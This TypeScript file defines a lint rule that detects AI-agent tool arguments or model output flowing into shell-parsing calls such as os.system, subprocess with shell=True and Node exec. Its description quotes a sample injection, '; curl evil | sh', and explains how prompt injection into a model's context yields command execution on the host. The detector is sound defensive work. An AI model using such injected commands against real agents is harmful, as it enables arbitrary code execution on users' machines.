import type { Node } from 'web-tree-sitter';
import { calls, keywordArgument, positionalArguments, qualifiedCallee } from '../ast/python.js';
import { callExpressions, objectProperty, tsArguments, tsCalleeText } from '../ast/typescript.js';
import { defineRule } from '../define.js';
import { nodeModuleBindings, PY_OR_TS } from './support/common.js';
import { analysePython, analyseTs, describeOrigin } from './support/sinks.js';

const SUBPROCESS_SHELL_OPTIONAL = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
const ALWAYS_SHELL = new Set(['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'asyncio.create_subprocess_shell', 'commands.getoutput']);
/** Quoting for the shell makes interpolation safe. */
const PY_SANITIZERS = new Set(['shlex.quote', 'pipes.quote', 'shlex.join', 'quote']);
const TS_SANITIZERS = new Set(['shellEscape', 'shellescape', 'escape', 'quote', 'shellQuote.quote', 'shq']);
const NODE_SHELL_FUNCTIONS = new Set(['exec', 'execSync']);
const NODE_OPTIONAL_SHELL = new Set(['spawn', 'spawnSync', 'execFile', 'execFileSync']);

export const shellInjectionCheck = defineRule(
  {
    id: 'security/shell-injection',
    title: 'Tool input reaches a shell command',
    description:
      'A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, ' +
      'asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context ' +
      '(`; curl evil | sh`, `$(...)`) runs as commands on the host.',
    persona: 'secops',
    category: 'security',
    severity: 'error',
    fixability: 'structural',
    tags: ['security', 'CWE-78', 'LLM05:2025', 'ASI05', 'ASI02'],
    remediation:
      'Pass an argument list without a shell: subprocess.run(["git", "log", "--", path], shell=False) or execFile("git", ["log", "--", path]); ' +
      'validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.',
    docs: 'https://docs.python.org/3/library/subprocess.html#security-considerations',
    frameworks: ['langchain', 'crewai', 'smolagents', 'openai-agents', 'pydantic-ai', 'google-adk', 'vercel-ai-sdk', 'mastra'],
    precision: 'high',
    securitySeverity: 9.8,
  },
  {
    appliesTo: (file) => PY_OR_TS(file.language),
    async run(context) {
      const { file } = context;
      if (file.language === 'python') {
        if (!/\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/.test(file.text)) return;
        const tree = await context.tree();
        if (!tree) return;
        const analysis = analysePython(tree);
        for (const call of calls(tree)) {
          const callee = qualifiedCallee(call, analysis.imports);
          let label: string;
          if (ALWAYS_SHELL.has(callee)) label = `${callee}(...)`;
          else if (SUBPROCESS_SHELL_OPTIONAL.has(callee) && keywordArgument(call, 'shell')?.text === 'True') label = `${callee}(..., shell=True)`;
          else continue;
          const command = keywordArgument(call, 'args') ?? keywordArgument(call, 'cmd') ?? keywordArgument(call, 'command') ?? positionalArguments(call)[0];
          if (!command) continue;
          const origin = analysis.origin(command, { modelOutput: true, taint: { sanitizers: PY_SANITIZERS } });
          if (!origin) continue;
          context.report({
            start: call.startIndex,
            end: call.endIndex,
            message: `${label} ${describeOrigin(origin)}; the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.`,
            fingerprintContent: `${callee}|${origin.kind}|${origin.names.join(',')}`,
          });
        }
        return;
      }
      if (!/child_process/.test(file.text)) return;
      const tree = await context.tree();
      if (!tree) return;
      const analysis = analyseTs(tree, file.text);
      const cp = nodeModuleBindings(tree.rootNode, analysis.imports, 'child_process');
      const promisified = promisifiedExec(tree.rootNode, cp);
      for (const call of callExpressions(tree)) {
        if (call.type !== 'call_expression') continue;
        const fnName = childProcessFunction(tsCalleeText(call), cp, promisified);
        if (!fnName) continue;
        const args = tsArguments(call);
        if (NODE_OPTIONAL_SHELL.has(fnName)) {
          const options = args.find((arg) => arg.type === 'object');
          if (objectProperty(options, 'shell')?.text !== 'true') continue;
        } else if (!NODE_SHELL_FUNCTIONS.has(fnName)) continue;
        const command = args[0];
        if (!command) continue;
        const origin = analysis.origin(command, { modelOutput: true, taint: { sanitizers: TS_SANITIZERS } });
        if (!origin) continue;
        const label = NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`;
        context.report({
          start: call.startIndex,
          end: call.endIndex,
          message: `${label} ${describeOrigin(origin)}; ${fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
          fingerprintContent: `${fnName}|${origin.kind}|${origin.names.join(',')}`,
        });
      }
    },
  },
);

/** `cp.exec`, `exec` (named import), `execAsync` (promisify(exec)) → the child_process function name. */
function childProcessFunction(callee: string, cp: ReturnType<typeof nodeModuleBindings>, promisified: Map<string, string>): string | undefined {
  const [head, member] = callee.split('.');
  if (member !== undefined && head !== undefined && cp.namespaces.has(head) && !callee.includes('.', head.length + 1)) return member;
  return cp.named.get(callee) ?? promisified.get(callee);
}

/** `const execAsync = promisify(exec)` / `util.promisify(cp.exec)`. */
function promisifiedExec(root: Node, cp: ReturnType<typeof nodeModuleBindings>): Map<string, string> {
  const result = new Map<string, string>();
  for (const declarator of root.descendantsOfType('variable_declarator')) {
    const name = declarator.childForFieldName('name');
    const value = declarator.childForFieldName('value');
    if (name?.type !== 'identifier' || value?.type !== 'call_expression' || !/(^|\.)promisify$/.test(tsCalleeText(value))) continue;
    const inner = tsArguments(value)[0];
    const fnName = inner ? childProcessFunction(inner.text, cp, new Map()) : undefined;
    if (fnName) result.set(name.text, fnName);
  }
  return result;
}
